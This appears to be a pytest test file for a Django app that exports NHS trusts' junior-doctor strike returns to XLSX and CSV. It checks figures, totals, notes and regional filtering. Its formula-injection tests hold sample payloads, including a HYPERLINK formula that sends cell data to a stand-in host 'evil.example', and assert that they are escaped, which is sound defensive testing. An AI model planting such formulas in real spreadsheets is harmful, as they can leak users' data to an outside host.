"""Downloads of an action in publication layout: XLSX opened with openpyxl, CSV, and injection."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from tests.factories import make_action, make_return
from trusts.exports import safe_text
from trusts.models import ReturnStatus, Trust

pytestmark = pytest.mark.django_db

DAY1, DAY2 = dt.date(2023, 4, 11), dt.date(2023, 4, 12)


@pytest.fixture
def action(rwe):  # type: ignore[no-untyped-def]
    action = make_action()
    make_return(action, rwe, DAY1, elective_rescheduled=165, outpatient_rescheduled=2133, community_rescheduled=4,
                mental_health_rescheduled=1, staff_absent=700, staff_due=1900)
    make_return(action, rwe, DAY2, elective_rescheduled=10, outpatient_rescheduled=20, staff_absent=650,
                staff_due=1900)
    make_return(action, "RX1", DAY1)  # a nil return: zeros, confirmed
    make_return(action, "RX1", DAY2, status=ReturnStatus.DRAFT, elective_rescheduled=99)  # not a return yet
    return action


def test_xlsx_has_one_row_per_trust_with_each_days_figures_totals_and_notes(client, nia, action) -> None:  # type: ignore[no-untyped-def]
    client.force_login(nia)
    response = client.get(f"/reports/actions/{action.slug}/download.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="junior-doctors-april-2023-england.xlsx"' in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Figures", "Notes"]
    sheet = workbook["Figures"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Junior doctors, April 2023: figures by trust (England)"
    header = list(rows[1])
    assert header[:4] == ["ODS code", "Trust", "ICB", "Region"]
    assert "11 Apr 2023 staff absent" in header
    by_code = {r[0]: dict(zip(header, r, strict=True)) for r in rows[2:]}
    assert len(by_code) == len(rows) - 2 >= 200  # every trust that owed a return
    rwe = by_code["RWE"]
    assert rwe["Trust"] == "University Hospitals of Leicester NHS Trust"
    assert rwe["ICB"] == "Leicester, Leicestershire and Rutland ICB"
    assert rwe["Region"] == "Midlands"
    assert rwe["11 Apr 2023 staff absent"] == 700
    assert rwe["11 Apr 2023 acute rescheduled (elective and outpatient)"] == 2298
    assert rwe["12 Apr 2023 elective procedures rescheduled"] == 10
    assert rwe["13 Apr 2023 elective procedures rescheduled"] is None  # missing, not zero
    assert rwe["Total elective procedures rescheduled"] == 175
    assert rwe["Total total rescheduled"] == 2333
    assert rwe["Peak staff absent"] == 700 and rwe["Peak day"] == "2023-04-11"
    assert rwe["Days reported"] == 2
    assert by_code["RX1"]["12 Apr 2023 elective procedures rescheduled"] is None  # a draft does not count
    notes = [tuple(r) for r in workbook["Notes"].iter_rows(values_only=True)]
    assert ("RWE", "University Hospitals of Leicester NHS Trust", "2023-04-13") in notes
    assert ("RX1", "Nottingham University Hospitals NHS Trust", "2023-04-12") in notes  # draft only: missing
    nil_start = next(i for i, r in enumerate(notes) if r[0] == "Nil returns")
    assert ("RX1", "Nottingham University Hospitals NHS Trust", "2023-04-11") in notes[nil_start:]
    assert ("RWE", "University Hospitals of Leicester NHS Trust", "2023-04-11") not in notes


def test_csv_has_the_same_layout_with_a_notes_section(client, nia, action) -> None:  # type: ignore[no-untyped-def]
    client.force_login(nia)
    response = client.get(f"/reports/actions/{action.slug}/download.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    rwe = dict(zip(header, next(r for r in rows if r and r[0] == "RWE"), strict=True))
    assert rwe["Total elective procedures rescheduled"] == "175"
    assert rwe["13 Apr 2023 staff absent"] == ""
    assert ["Notes"] in rows
    assert ["RX1", "Nottingham University Hospitals NHS Trust", "2023-04-11"] in rows


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(A1)",
                                   "\tname", "\rname"])
def test_safe_text_neutralises_formula_triggers(value: str) -> None:
    assert safe_text(value) == "'" + value
    assert safe_text("University Hospitals") == "University Hospitals"


def test_downloads_are_safe_against_formula_injection(client, nia, action) -> None:  # type: ignore[no-untyped-def]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    Trust.objects.filter(ods_code="RWE").update(name=evil)
    Trust.objects.filter(ods_code="RX1").update(name="@SUM(1+1)")
    client.force_login(nia)
    workbook = load_workbook(io.BytesIO(client.get(f"/reports/actions/{action.slug}/download.xlsx").content))
    cells = {row[0].value: row[1] for row in workbook["Figures"].iter_rows(min_row=3)}
    assert cells["RWE"].value == "'" + evil
    assert cells["RWE"].data_type == "s"
    assert cells["RX1"].value == "'@SUM(1+1)"
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    text = client.get(f"/reports/actions/{action.slug}/download.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    names = {r[0]: r[1] for r in rows if len(r) > 1}
    assert names["RWE"] == "'" + evil
    assert names["RX1"] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_a_regional_download_holds_only_the_regions_trusts(client, morgan, action) -> None:  # type: ignore[no-untyped-def]
    make_return(action, "RJ1", DAY1, elective_rescheduled=5)
    client.force_login(morgan)
    response = client.get(f"/reports/actions/{action.slug}/download.xlsx")
    assert 'filename="junior-doctors-april-2023-y60.xlsx"' in response["Content-Disposition"]
    rows = list(load_workbook(io.BytesIO(response.content))["Figures"].iter_rows(min_row=3, values_only=True))
    assert {r[3] for r in rows} == {"Midlands"}
    assert "RJ1" not in {r[0] for r in rows}
